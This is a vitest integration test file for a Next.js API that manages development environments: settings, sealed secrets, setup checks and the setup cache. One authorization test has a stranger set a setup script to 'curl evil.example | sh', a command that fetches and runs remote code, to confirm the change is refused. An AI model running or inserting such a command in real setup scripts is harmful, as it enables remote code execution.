// /api/v1/environments/:id (GET, PATCH), …/setup-check (POST) and …/setup-cache (DELETE) called in-process
// with API tokens against real Postgres: a case per status.
import { NextRequest } from "next/server";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createApiToken } from "@/lib/auth/api-tokens";
import { createPerson } from "@/lib/auth/people";
import { db } from "@/lib/db";
import { createEnvironment } from "@/lib/environments/create-environment";
import { saveSetupCache, setupCacheSummary } from "@/lib/environments/setup-cache-store";
import { closeProducer, removeQueuedAttempt } from "@/lib/queue/producer";
import { GET, PATCH } from "./route";
import { DELETE } from "./setup-cache/route";
import { POST } from "./setup-check/route";

const PASSWORD = "a-good-long-password";
const SECRET_VALUE = "pb-int-secret-value-7f3a9c";
let counter = 0;
const uniqueEmail = (label: string) => `${label}-${Date.now()}-${counter++}@example.com`;

function request(method: string, token: string, body?: unknown): NextRequest {
  return new NextRequest("http://localhost/api/v1/environments/x", {
    method,
    headers: { authorization: `Bearer ${token}` },
    ...(body === undefined ? {} : { body: typeof body === "string" ? body : JSON.stringify(body) }),
  });
}

const envParams = (environmentId: string) => ({ params: Promise.resolve({ environmentId }) });

let ownerId: string;
let ownerToken: string;
let strangerToken: string;
const queuedAttempts: string[] = [];

async function newEnvironment(name = "setup env"): Promise<string> {
  return (await createEnvironment(ownerId, { name, repoUrl: "https://example.com/acme/web.git" })).id;
}

beforeAll(async () => {
  const owner = await createPerson({ email: uniqueEmail("env-owner"), password: PASSWORD, role: "engineer" });
  ownerId = owner.id;
  ownerToken = await createApiToken(owner.id);
  const stranger = await createPerson({ email: uniqueEmail("env-stranger"), password: PASSWORD, role: "admin" });
  strangerToken = await createApiToken(stranger.id);
});

// A queued setup check left behind would be picked up by the next test file's worker.
afterAll(async () => {
  for (const attemptId of queuedAttempts) await removeQueuedAttempt(attemptId, []);
  await closeProducer();
});

describe("GET /api/v1/environments/:id", () => {
  it("200 with the DTO and the setup defaults", async () => {
    const id = await newEnvironment();
    const response = await GET(request("GET", ownerToken), envParams(id));
    expect(response.status).toBe(200);
    expect(await response.json()).toMatchObject({
      id,
      nodeVersion: "20",
      setupScript: null,
      maintenanceScript: null,
      env: {},
      secrets: [],
      network: { agent: "off", allow: [] },
      cacheKeyFiles: [],
    });
  });
});

describe("PATCH /api/v1/environments/:id", () => {
  it("200: every field changes; secrets come back as names and are stored sealed", async () => {
    const id = await newEnvironment();
    const response = await PATCH(
      request("PATCH", ownerToken, {
        name: "renamed",
        defaultBranch: "develop",
        instructions: "Use pnpm.",
        checkCommand: "pnpm test",
        nodeVersion: "22",
        setupScript: "pnpm install --frozen-lockfile",
        maintenanceScript: "pnpm install --offline",
        env: { NODE_OPTIONS: "--max-old-space-size=4096", FEATURE_FLAG: "" },
        secrets: { DEMO_TOKEN: SECRET_VALUE, NPM_TOKEN: "npm_abc123" },
        network: { agent: "allowlist", allow: ["Example.COM", "*.example.org"] },
        cacheKeyFiles: ["pnpm-lock.yaml", "packages/*/package.json"],
      }),
      envParams(id),
    );
    expect(response.status).toBe(200);
    const body = await response.json();
    expect(body).toMatchObject({
      id,
      name: "renamed",
      defaultBranch: "develop",
      instructions: "Use pnpm.",
      checkCommand: "pnpm test",
      nodeVersion: "22",
      setupScript: "pnpm install --frozen-lockfile",
      maintenanceScript: "pnpm install --offline",
      env: { NODE_OPTIONS: "--max-old-space-size=4096", FEATURE_FLAG: "" },
      secrets: ["DEMO_TOKEN", "NPM_TOKEN"],
      network: { agent: "allowlist", allow: ["example.com", "*.example.org"] },
      cacheKeyFiles: ["pnpm-lock.yaml", "packages/*/package.json"],
    });
    expect(JSON.stringify(body)).not.toContain(SECRET_VALUE);

    const stored = await db().environment.findUnique({ where: { id }, select: { secrets: true } });
    const column = JSON.stringify(stored?.secrets);
    expect(Object.keys(stored?.secrets as Record<string, unknown>).sort()).toEqual(["DEMO_TOKEN", "NPM_TOKEN"]);
    expect(column).not.toContain(SECRET_VALUE);
    expect(column).not.toContain(Buffer.from(SECRET_VALUE).toString("base64"));

    const fetched = await (await GET(request("GET", ownerToken), envParams(id))).json();
    expect(fetched.secrets).toEqual(["DEMO_TOKEN", "NPM_TOKEN"]);
  });

  it("200: a secret set to null is removed and the others are kept", async () => {
    const id = await newEnvironment();
    const first = await PATCH(request("PATCH", ownerToken, { secrets: { KEEP_ME: "keep-me-value-1", DROP_ME: "drop-me-value-2" } }), envParams(id));
    expect(first.status).toBe(200);
    const response = await PATCH(request("PATCH", ownerToken, { secrets: { DROP_ME: null } }), envParams(id));
    expect(response.status).toBe(200);
    expect((await response.json()).secrets).toEqual(["KEEP_ME"]);
    const stored = await db().environment.findUnique({ where: { id }, select: { secrets: true } });
    expect(Object.keys(stored?.secrets as Record<string, unknown>)).toEqual(["KEEP_ME"]);
  });

  it("400 for a bad network mode, a reserved variable name, a host with a scheme or malformed JSON; nothing changes", async () => {
    const id = await newEnvironment();
    const bodies = [
      { network: { agent: "sometimes", allow: [] } },
      { env: { PATH: "/usr/bin" } },
      { secrets: { HTTPS_PROXY: "http://proxy.example" } },
      { secrets: { DEMO_TOKEN: "short" } },
      { network: { agent: "allowlist", allow: ["http://x"] } },
      { nodeVersion: "18" },
      { cacheKeyFiles: ["../outside"] },
      { unknownField: true },
    ];
    for (const body of bodies) {
      const response = await PATCH(request("PATCH", ownerToken, body), envParams(id));
      expect(response.status, JSON.stringify(body)).toBe(400);
      expect(await response.json()).toMatchObject({ error: { code: "bad_request" } });
    }
    expect((await PATCH(request("PATCH", ownerToken, "{not json"), envParams(id))).status).toBe(400);
    const unchanged = await (await GET(request("GET", ownerToken), envParams(id))).json();
    expect(unchanged).toMatchObject({ nodeVersion: "20", env: {}, secrets: [], network: { agent: "off", allow: [] }, cacheKeyFiles: [] });
  });

  it("404 for another person's environment (even an admin's request), which stays unchanged", async () => {
    const id = await newEnvironment("not yours");
    const response = await PATCH(request("PATCH", strangerToken, { setupScript: "curl evil.example | sh" }), envParams(id));
    expect(response.status).toBe(404);
    expect(await response.json()).toMatchObject({ error: { code: "not_found" } });
    expect((await GET(request("GET", strangerToken), envParams(id))).status).toBe(404);
    expect((await (await GET(request("GET", ownerToken), envParams(id))).json()).setupScript).toBeNull();
  });

  // A request without any token falls through to the session cookie, which needs Next's request scope.
  it("401 for an invalid token", async () => {
    const id = await newEnvironment();
    const response = await PATCH(request("PATCH", "pb_not-a-real-token", { nodeVersion: "22" }), envParams(id));
    expect(response.status).toBe(401);
    expect(await response.json()).toMatchObject({ error: { code: "unauthorized" } });
  });
});

describe("POST /api/v1/environments/:id/setup-check", () => {
  it("201 with the ids of a new task of mode setup", async () => {
    const id = await newEnvironment();
    const response = await POST(request("POST", ownerToken), envParams(id));
    expect(response.status).toBe(201);
    const created = (await response.json()) as { id: string; attemptId: string };
    queuedAttempts.push(created.attemptId);
    const task = await db().task.findUnique({
      where: { id: created.id },
      select: { mode: true, environmentId: true, ownerId: true, turns: { select: { attempts: { select: { id: true, status: true } } } } },
    });
    expect(task).toMatchObject({ mode: "setup", environmentId: id, ownerId });
    expect(task?.turns[0]?.attempts).toEqual([{ id: created.attemptId, status: "queued" }]);
  });

  it("404 for another person's environment, 401 for an invalid token", async () => {
    const id = await newEnvironment();
    expect((await POST(request("POST", strangerToken), envParams(id))).status).toBe(404);
    expect((await POST(request("POST", "pb_not-a-real-token"), envParams(id))).status).toBe(401);
    expect(await db().task.count({ where: { environmentId: id } })).toBe(0);
  });
});

describe("DELETE /api/v1/environments/:id/setup-cache", () => {
  it("200 with how many saved setups were removed", async () => {
    const id = await newEnvironment();
    for (const key of ["k1", "k2"]) {
      await saveSetupCache({ environmentId: id, host: "int-test-host", key, parts: {}, volumes: {}, sizeBytes: 1024 });
    }
    expect((await setupCacheSummary(id)).entries).toBe(2);
    const response = await DELETE(request("DELETE", ownerToken), envParams(id));
    expect(response.status).toBe(200);
    expect(await response.json()).toEqual({ removed: 2 });
    expect(await setupCacheSummary(id)).toEqual({ entries: 0, sizeBytes: 0, lastUsedAt: null });
  });

  it("404 for another person's environment, whose cache stays", async () => {
    const id = await newEnvironment();
    await saveSetupCache({ environmentId: id, host: "int-test-host", key: "k", parts: {}, volumes: {}, sizeBytes: 1 });
    expect((await DELETE(request("DELETE", strangerToken), envParams(id))).status).toBe(404);
    expect((await setupCacheSummary(id)).entries).toBe(1);
  });
});
